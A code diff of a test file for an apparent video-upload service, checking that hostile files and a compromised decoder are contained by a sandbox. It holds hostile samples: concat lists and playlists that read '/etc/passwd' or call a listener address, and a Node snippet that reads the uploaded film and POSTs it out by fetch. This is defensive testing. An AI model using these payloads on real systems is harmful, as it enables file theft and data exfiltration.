@@ -1,147 +1,257 @@
-import { existsSync, readdirSync } from 'node:fs';
+import { readdirSync, rmSync } from 'node:fs';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
-import { tmpdir } from 'node:os';
 import path from 'node:path';
-import { afterAll, beforeAll, expect, test, vi } from 'vitest';
+import { afterAll, afterEach, beforeAll, expect, test, vi } from 'vitest';
+import { unwalled } from '#engines/children/wall.ts';
+import { openWalls, type Walls } from '#engines/children/walls.ts';
+import { openVideoEngine } from '#engines/video/open-engine.ts';
+import { limitsFor } from '#engines/video/programs.ts';
+import type { VideoEngine } from '#engines/video/video.ts';
+import { openFilmWork } from '#features/media/film-work.ts';
+import { openStudios } from '#features/media/studios.ts';
 import { canDrawClips, drawClip, tellNoClips } from '#tests/support/clips.ts';
 import { type HouseInTest, openHouse } from '#tests/support/house.ts';
-import { type Person, signUpCreator } from '#tests/support/people.ts';
+import { listBelow } from '#tests/support/list-below.ts';
+import { type Person, readRows, signUpCreator } from '#tests/support/people.ts';
 import { sendFile } from '#tests/support/send-file.ts';
+import { makeDataDir } from '#tests/support/server-process.ts';
 import { countOf, tellProof } from './counts.ts';
-import { damage, type HostileFile, numbersFrom } from './hostile-files.ts';
+import { damageFilms, findHostileFilms, type HostileFilm, makeLiars } from './hostile-films.ts';
 
 if (!canDrawClips) tellNoClips();
 
-let house: HouseInTest;
-let creator: Person;
+/** Everything temporary of this process lies here, and nothing else does. */
+const scratch = makeDataDir('pf-scratch-');
 let asked = 0;
 const listener = createServer((_request, response) => {
   asked++;
   response.end();
 });
+const addressOfListener = () => {
+  const { address, port } = listener.address() as AddressInfo;
+  return `http://${address}:${port}`;
+};
+
+let house: HouseInTest;
+let creator: Person;
+let albumId: string;
+
+async function open(workJobs: boolean): Promise<void> {
+  asked = 0;
+  house = await openHouse({ workJobs });
+  creator = await signUpCreator(house);
+  if (!house.app.server.listening) await house.app.listen({ port: 0, host: '127.0.0.1' });
+  albumId = (await house.call('albums.create', { name: 'Hostile' }, creator.browser)).body.id;
+  await readRows(house, `insert into app_settings (key, value) values ('limits.itemsPerAlbum', '5000')`);
+}
 
 beforeAll(async () => {
-  house = await openHouse();
-  creator = await signUpCreator(house);
-  await house.app.listen({ port: 0, host: '127.0.0.1' });
+  vi.stubEnv('TMPDIR', scratch);
   await new Promise<void>((done) => listener.listen(0, '127.0.0.1', done));
-}, 120_000);
-afterAll(async () => {
-  listener.close();
+});
+afterEach(async () => {
   await house.close();
+  expect(readdirSync(scratch)).toEqual([]);
+});
+afterAll(() => {
+  listener.close();
+  rmSync(scratch, { recursive: true, force: true });
 });
 
-/** Files that would have another file read, or that promise what no machine holds; `sink` is an address that nobody may ask. */
-function liars(good: Buffer, sink: string): HostileFile[] {
-  const playlist = `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n${sink}/a.ts\n#EXT-X-ENDLIST\n`;
-  const head = Buffer.from('\0\0\0\x18ftypisom\0\0\x02\0isomiso2', 'latin1');
-  const webm = Buffer.concat([Buffer.from('1a45dfa39f4286810142f7810142f2810442f381084282847765626d', 'hex')]);
-  const giant = Buffer.from(good);
-  const size = giant.indexOf('avc1') + 28;
-  giant.writeUInt16BE(65_535, size);
-  giant.writeUInt16BE(65_535, size + 2);
-  const files: [string, string | Buffer][] = [
-    ['playlist', playlist],
-    ['concat list', `ffconcat version 1.0\nfile '${sink}/b.mp4'\n`],
-    ['concat list of this machine', "ffconcat version 1.0\nfile '/etc/passwd'\n"],
-    ['playlist behind the head of an mp4', Buffer.concat([head, Buffer.from(playlist)])],
-    ['playlist behind the head of a webm', Buffer.concat([webm, Buffer.from(playlist)])],
-    ['html', `<html><video src="${sink}/c"></html>`],
-    ['svg', `<svg xmlns="http://www.w3.org/2000/svg"><image href="${sink}/d"/></svg>`],
-    ['empty', ''],
-    ['only a head', head],
-    ['mp4 of 65,535 pixels a side', giant],
-    [
-      'transport stream of nothing',
-      Buffer.concat(Array.from({ length: 400 }, () => Buffer.concat([Buffer.from([0x47]), Buffer.alloc(187, 0xff)]))),
-    ],
-  ];
-  return files.map(([what, bytes]) => ({ what, name: `${what}.mp4`, bytes: Buffer.from(bytes) }));
+interface State {
+  id: string;
+  state: string;
+  fail_code: string | null;
 }
-
-function makeFiles(seed: number, count: number, sink: string): HostileFile[] {
-  const random = numbersFrom(seed);
-  const small = { seconds: 1, width: 160, height: 90 };
-  const clips = [
-    drawClip({ ...small, also: ['-movflags', '+faststart'] }),
-    drawClip({ ...small, ending: 'mov' }),
-    drawClip({ ...small, ending: 'webm', also: ['-c:v', 'libvpx', '-deadline', 'realtime'] }),
-    drawClip({ ...small, ending: 'ts' }),
-  ];
-  const files = liars(clips[0] ?? Buffer.alloc(0), sink);
-  for (let n = files.length; n < count; n++) {
-    const clip = clips[n % clips.length] ?? Buffer.alloc(0);
-    files.push({ ...damage(clip, random), name: n % 3 === 0 ? 'film.jpg' : 'film.mp4' });
-  }
-  return files;
-}
-
-const states = () =>
-  house.engines.database.work(
-    { kind: 'system' },
-    async ({ client }) =>
-      (
-        await client.query<{ id: string; state: string; fail_code: string | null }>(
-          'select id, state, fail_code from media',
-        )
-      ).rows,
-  );
+const states = async () => (await readRows(house, 'select id, state, fail_code from media')) as unknown as State[];
 
 /** Stored files that no row names. */
 async function strays(): Promise<string[]> {
-  const named = await house.engines.database.work(
-    { kind: 'system' },
-    async ({ client }) =>
-      (
-        await client.query<{ path: string }>(
-          'select path from packs union all select path from segment_files union all select original_path from media',
-        )
-      ).rows,
+  const named = await readRows(
+    house,
+    'select path from packs union all select path from segment_files union all select original_path from media',
   );
-  const names = new Set(named.map(({ path: file }) => file));
+  const names = new Set(named.map(({ path: file }) => String(file)));
   const found: string[] = [];
   for await (const file of house.engines.storage.list('media/')) if (!names.has(file)) found.push(file);
   return found;
 }
 
+/** Every file outside of the data folder, and every folder but the empty ones of children that wait for more. */
+function leftInScratch(): string[] {
+  const { dataDir } = house.engines.house;
+  const all = listBelow(scratch)
+    .map((entry) => ({ file: path.join(entry.parentPath, entry.name), isFolder: entry.isDirectory() }))
+    .filter(({ file }) => file !== dataDir && !file.startsWith(`${dataDir}/`));
+  const empty = /\/privatefans-child-[^/]+(\/inputs|\/outputs)?$/;
+  return all.flatMap(({ file, isFolder }) => (isFolder && empty.test(file) ? [] : [path.relative(scratch, file)]));
+}
+
+/** What went wrong, in words. @param sent what was sent, and what became of it; the last one is good */
+async function findFaults(sent: readonly { film: HostileFilm; status: number; id: string }[]): Promise<string[]> {
+  const ended = new Map((await states()).map((row) => [row.id, row]));
+  const taken = sent.filter(({ status }) => status < 300);
+  const all = [...ended.values()];
+  const wrong = taken.flatMap(({ film: { what, code }, id }) =>
+    code === undefined || ended.get(id)?.fail_code === code ? [] : [`${what} ended as ${ended.get(id)?.fail_code}`],
+  );
+  const faults: Record<string, boolean> = {
+    'an error of the server': sent.some(({ status }) => status >= 500),
+    'a film that nobody heard of again': taken.some(({ id }) => !/ready|failed/.test(ended.get(id)?.state ?? '')),
+    'a failure without a reason': all.some(({ state, fail_code }) => state === 'failed' && fail_code === null),
+    'a good film that was held up': ended.get(sent.at(-1)?.id ?? '')?.state !== 'ready',
+    'somebody was asked': asked > 0,
+    'something was left in staging': readdirSync(path.join(house.engines.house.dataDir, 'staging')).length > 0,
+    'something was left in the scratch folder': leftInScratch().length > 0,
+    'a stored file has no name': (await strays()).length > 0,
+    'the server is ill': (await house.app.inject('/healthz')).statusCode !== 200,
+  };
+  return [...Object.keys(faults).filter((fault) => faults[fault]), ...wrong];
+}
+
+async function send(film: HostileFilm) {
+  return { film, ...(await sendFile(house, creator, albumId, film)) };
+}
+const drawGood = (): HostileFilm => ({ what: 'a good film', name: 'good.mp4', bytes: drawClip({ seconds: 1 }) });
+
 test.runIf(canDrawClips)(
   'R7: hostile films end with a reason, ask nobody, leave nothing and hold up nobody',
   async () => {
-    const { address, port } = listener.address() as AddressInfo;
+    await open(true);
     const seeds = [11, Math.floor(Date.now() / 1000)];
-    const count = countOf(13, 170);
-    const files = seeds.flatMap((seed) => makeFiles(seed, count, `http://${address}:${port}`));
-    const albumId = (await house.call('albums.create', { name: 'Hostile' }, creator.browser)).body.id;
-    await house.engines.database.work({ kind: 'system' }, ({ client }) =>
-      client.query(`insert into app_settings (key, value) values ('limits.itemsPerAlbum', '5000')`),
-    );
-    const statuses: number[] = [];
-    for (const file of files) statuses.push((await sendFile(house, creator, albumId, file)).status);
-    const good = await sendFile(house, creator, albumId, { name: 'good.mp4', bytes: drawClip({ seconds: 1 }) });
+    const films = [
+      ...findHostileFilms(),
+      ...makeLiars(addressOfListener()),
+      ...seeds.flatMap((seed) => damageFilms(seed, countOf(5, 160))),
+    ];
+    expect(leftInScratch()).toEqual([]);
+    const sent: Awaited<ReturnType<typeof send>>[] = [];
+    for (const film of [...films, drawGood()]) sent.push(await send(film));
     await vi.waitFor(
       async () => expect((await states()).filter(({ state }) => state !== 'ready' && state !== 'failed')).toEqual([]),
       { timeout: 3_000_000, interval: 500 },
     );
     const ended = await states();
     const failed = ended.filter(({ state }) => state === 'failed');
-    tellProof('malformed-video', files.length, {
+    tellProof('malformed-video', films.length, {
       seed: seeds[1] ?? 0,
       failed: failed.length,
       ready: ended.length - failed.length,
       connections: asked,
-      serverErrors: statuses.filter((status) => status >= 500).length,
+      leftInScratch: leftInScratch().length,
+      serverErrors: sent.filter(({ status }) => status >= 500).length,
     });
-    expect(statuses.filter((status) => status >= 500)).toEqual([]);
-    expect(failed.filter(({ fail_code }) => fail_code === null)).toEqual([]);
-    expect(failed.length).toBeGreaterThan(files.length / 4);
-    expect(ended.find(({ id }) => id === good.id)?.state).toBe('ready');
-    expect(asked).toBe(0);
-    expect(await strays()).toEqual([]);
-    expect(readdirSync(path.join(house.engines.house.dataDir, 'staging'))).toEqual([]);
-    const work = readdirSync(tmpdir()).filter((name) => name.startsWith(`privatefans-child-${process.pid}-`));
-    expect(work.filter((name) => existsSync(path.join(tmpdir(), name, 'inputs/original')))).toEqual([]);
-    expect((await house.app.inject('/healthz')).statusCode).toBe(200);
+    expect(await findFaults(sent)).toEqual([]);
+    expect(failed.length).toBeGreaterThan(films.length / 4);
   },
   3_600_000,
+);
+
+/** One good film by the real work, with one of its defences off. @returns what went wrong */
+async function makeWith(films: { walls: Walls; engine: VideoEngine }): Promise<string[]> {
+  await open(false);
+  const sent = await send(drawGood());
+  const studios = openStudios(house.engines);
+  const work = openFilmWork(house.engines, { ...studios, films: async () => films });
+  await work.make(sent.id, AbortSignal.timeout(120_000), async () => undefined);
+  await studios.close();
+  return findFaults([sent]);
+}
+
+async function openEngine(walls: Walls): Promise<VideoEngine> {
+  const engine = await openVideoEngine(walls);
+  if (engine === undefined) throw new Error('no engine');
+  return engine;
+}
+
+/** An engine in whose decoder somebody else is at work: he sends what he sees to the listener and leaves a copy for later. */
+async function capturedOn(walls: Walls): Promise<{ walls: Walls; engine: VideoEngine }> {
+  const engine = await openEngine(walls);
+  const steal = `const fs = require('node:fs');
+    const film = fs.readFileSync('../inputs/original');
+    try { fs.writeFileSync(${JSON.stringify(path.join(scratch, 'copy'))}, film); } catch {}
+    fetch(${JSON.stringify(addressOfListener())}, { method: 'POST', body: film }).catch(() => undefined);`;
+  const captured: VideoEngine = {
+    ...engine,
+    async probe(bench, signal) {
+      const command = [process.execPath, '-e', steal];
+      expect((await bench.run({ command, limits: limitsFor(30), seconds: 30 })).ended).toBe('well');
+      return engine.probe(bench, signal);
+    },
+  };
+  return { walls, engine: captured };
+}
+
+const patience = 240_000;
+
+test.runIf(canDrawClips)(
+  'R7: a captured decoder asks nobody and leaves nothing behind the wall',
+  { timeout: patience },
+  async (context) => {
+    const walls = await openWalls({ hidden: [] });
+    if (walls.wall.name !== 'bwrap') return context.skip(`the wall here is ${walls.wall.name}`);
+    expect(await makeWith(await capturedOn(walls))).toEqual([]);
+  },
+);
+
+test.runIf(canDrawClips)(
+  'R7, planted: without a wall it does both, and that is found',
+  { timeout: patience },
+  async () => {
+    const walls = await openWalls({ hidden: [] }, [unwalled(undefined)]);
+    expect(await makeWith(await capturedOn(walls))).toEqual([
+      'somebody was asked',
+      'something was left in the scratch folder',
+    ]);
+    rmSync(path.join(scratch, 'copy'));
+  },
+);
+
+test.runIf(canDrawClips)(
+  'R7, planted: a ladder that leaves its film on the bench is found',
+  { timeout: patience },
+  async () => {
+    const walls = await openWalls({ hidden: [] });
+    const kept: string[] = [];
+    const forgetful: Walls = {
+      ...walls,
+      makeFolder() {
+        const folder = walls.makeFolder();
+        kept.push(folder.path);
+        return { ...folder, path: `${folder.path}-elsewhere` };
+      },
+    };
+    expect(await makeWith({ walls: forgetful, engine: await openEngine(walls) })).toEqual([
+      'something was left in the scratch folder',
+    ]);
+    for (const folder of kept) rmSync(folder, { recursive: true });
+  },
+);
+
+test.runIf(canDrawClips)(
+  'R7, planted: a wrong reason, none, a film that is gone, a stray and an error are found',
+  { timeout: patience },
+  async () => {
+    const walls = await openWalls({ hidden: [] });
+    expect(await makeWith({ walls, engine: await openEngine(walls) })).toEqual([]);
+    const good = (await states())[0]?.id ?? '';
+    await house.engines.storage.put('media/stray', Buffer.from('a film'));
+    await readRows(house, `update media set state = 'failed' where id = $1`, [good]);
+    const film = { ...drawGood(), what: 'a liar', code: 'UNSUPPORTED' };
+    expect(
+      await findFaults([
+        { film, status: 500, id: 'none' },
+        { film: drawGood(), status: 201, id: 'gone' },
+        { film, status: 201, id: good },
+      ]),
+    ).toEqual([
+      'an error of the server',
+      'a film that nobody heard of again',
+      'a failure without a reason',
+      'a good film that was held up',
+      'a stored file has no name',
+      'a liar ended as null',
+    ]);
+  },
 );
